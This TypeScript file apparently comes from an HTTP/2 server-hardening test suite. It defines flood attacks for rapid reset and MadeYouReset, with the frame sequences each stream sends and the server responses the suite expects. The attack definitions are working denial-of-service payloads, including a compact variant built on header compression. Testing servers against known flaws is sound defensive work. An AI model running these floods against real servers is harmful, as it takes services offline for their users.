/**
 * Streams that are opened only to be reset: by the attacker (CVE-2023-44487, "rapid reset"), or by the victim, whom a stream error
 * forces to it (CVE-2025-8671, "MadeYouReset"). The work of the handlers is what hurts.
 */
import { ANSWERED, type Attack, CALMED, streamsReset, thrownOut } from "../attacker/attack.js";
import {
  data,
  EMPTY,
  FrameType,
  frame,
  headers,
  MAX_WINDOW_BYTES,
  PING,
  rstStream,
  windowUpdate,
} from "../frames/frame.js";
import { type BatchTemplate, perStream, repeated } from "../frames/frame-batch.js";
import {
  block,
  indexed,
  indexedLiteral,
  NEWEST_INDEX,
  requestBlock,
  requestFields,
  TRAILERS_BLOCK,
} from "../frames/header-block.js";
import { ECHO_BLOCK, IGNORE_BLOCK, OPEN_CONNECTION_WINDOW, STUBBORN_BLOCK, unaryCall } from "./requests.js";

/** An attack that repeats the same frames on ever new streams. */
function onEachStream(name: string, about: string, make: (streamId: number) => Buffer): Attack {
  let template: BatchTemplate | undefined;
  const begin: Attack["begin"] = (connection) => {
    template ??= perStream(make);
    connection.flood(template);
  };
  return { name, about, expected: [CALMED], begin };
}

/** A call whose handler runs, and then a frame for which the victim has to reset it. */
function madeYouReset(how: string, about: string, violation: (streamId: number) => Buffer): Attack {
  return onEachStream(`made-you-reset-${how}`, about, (id) =>
    Buffer.concat([unaryCall(id, STUBBORN_BLOCK), violation(id)]),
  );
}

const CACHED_FIELDS = requestFields("Ignore");
/** The same block when the dynamic table has all its fields: one octet for each. */
const CACHED_BLOCK = Buffer.from(CACHED_FIELDS.map((_, i) => indexed(NEWEST_INDEX + CACHED_FIELDS.length - 1 - i)));
const REMEMBERED = Buffer.concat(CACHED_FIELDS.map(([name, value]) => indexedLiteral(name, value)));
const WRONG_LENGTH = requestBlock("Stubborn", ["content-length", "1"]);
const UPPER_CASE = requestBlock("Stubborn", ["X-Upper", "1"]);

export const resets: readonly Attack[] = [
  onEachStream("rapid-reset", "a call whose handler starts at once, then RST_STREAM", (id) =>
    Buffer.concat([headers(id, IGNORE_BLOCK), rstStream(id)]),
  ),
  onEachStream("rapid-reset-stubborn", "a whole call with a handler that ignores its signal, then RST_STREAM", (id) =>
    Buffer.concat([unaryCall(id, STUBBORN_BLOCK), rstStream(id)]),
  ),
  {
    name: "rapid-reset-cached",
    about: "rapid reset in 28 octets each: the header block comes from the dynamic table",
    expected: [CALMED],
    begin: (connection) => {
      connection.write(Buffer.concat([headers(1, REMEMBERED), rstStream(1)]), 1);
      connection.flood(perStream((id) => Buffer.concat([headers(id, CACHED_BLOCK), rstStream(id)]), 3));
    },
  },
  madeYouReset("window-update-0", "WINDOW_UPDATE of 0 on each call", (id) => windowUpdate(id, 0)),
  madeYouReset("window-overflow", "a WINDOW_UPDATE that overflows each call's window", (id) =>
    windowUpdate(id, MAX_WINDOW_BYTES),
  ),
  madeYouReset("data-after-end", "DATA after END_STREAM", (id) => data(id, Buffer.alloc(1))),
  madeYouReset("headers-after-end", "HEADERS after END_STREAM", (id) => headers(id, TRAILERS_BLOCK, true)),
  madeYouReset("priority-length", "PRIORITY of four octets", (id) => frame(FrameType.PRIORITY, 0, id, Buffer.alloc(4))),
  onEachStream("made-you-reset-second-headers", "a second HEADERS without END_STREAM", (id) =>
    Buffer.concat([headers(id, IGNORE_BLOCK), headers(id, TRAILERS_BLOCK)]),
  ),
  onEachStream("made-you-reset-content-length", "a content-length that is not the body's", (id) =>
    unaryCall(id, WRONG_LENGTH),
  ),
  onEachStream("made-you-reset-malformed", "a field name in upper case", (id) => headers(id, UPPER_CASE, true)),
  onEachStream("made-you-reset-no-path", "a request without :path", (id) =>
    headers(id, block([[":method", "POST"]]), true),
  ),
  {
    name: "rst-closed-stream",
    about: "RST_STREAM, over and over, for a stream that is closed",
    expected: [CALMED],
    begin: (connection) => {
      connection.write(Buffer.concat([headers(1, IGNORE_BLOCK), rstStream(1)]));
      connection.flood(repeated(rstStream(1)));
    },
  },
  {
    name: "refused-streams",
    about: "calls that never end, far beyond the limit of streams: each one more is refused",
    expected: [CALMED, streamsReset("REFUSED_STREAM")],
    begin: (connection) => connection.flood(perStream((id) => headers(id, IGNORE_BLOCK))),
  },
  {
    name: "late-frames",
    about: "frames of all sorts on a stream that was reset",
    expected: [thrownOut("ENHANCE_YOUR_CALM", "STREAM_CLOSED")],
    begin: (connection) => {
      connection.write(Buffer.concat([headers(1, IGNORE_BLOCK), rstStream(1), PING]));
      const late = [headers(1, TRAILERS_BLOCK, true), data(1, EMPTY), windowUpdate(1, 1)];
      connection.flood(repeated(Buffer.concat(late), late.length));
    },
  },
  {
    name: "answered-then-reset",
    about: "whole calls that are answered at once, each followed by RST_STREAM",
    expected: [CALMED, ANSWERED],
    begin: (connection) => {
      connection.write(OPEN_CONNECTION_WINDOW);
      connection.flood(perStream((id) => Buffer.concat([unaryCall(id, ECHO_BLOCK), rstStream(id)])));
    },
  },
];
